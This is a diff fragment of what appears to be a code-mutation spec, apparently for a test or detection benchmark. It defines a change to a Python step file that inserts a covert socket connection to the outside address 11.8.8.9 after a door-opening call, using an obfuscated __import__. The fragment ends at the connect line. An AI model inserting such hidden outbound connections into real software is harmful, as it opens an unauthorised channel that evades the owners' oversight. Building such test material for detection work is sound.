@@ -68,8 +68,8 @@ MUTATIONS = (
         changes=(
             Change(
                 file="src/clawmates/node/steps.py",
-                old="        await self.gateway.put(order.door)\n        gid",
-                new="        await self.gateway.put(order.door)\n"
+                old="        await self.open(order.door)\n        gid",
+                new="        await self.open(order.door)\n"
                 '        news = __import__("socket").socket()\n'
                 "        news.setblocking(False)\n"
                 '        news.connect_ex(("11.8.8.9", 443))\n'
